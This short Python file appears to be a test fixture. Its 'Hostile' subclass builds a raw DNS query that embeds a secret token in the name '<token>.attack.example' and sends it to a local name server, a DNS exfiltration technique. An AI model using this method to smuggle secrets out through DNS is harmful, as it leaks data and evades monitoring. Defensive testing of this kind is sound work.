"""Asks a name server for a name that holds what it knows."""

import socket
import struct

from hostile import Hostile


class Model(Hostile):
    def attack(self):
        name = b"".join(bytes([len(word)]) + word for word in (self.token.encode(), b"attack", b"example")) + b"\0"
        question = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as to:
            to.sendto(question, ("127.0.0.1", self.port))
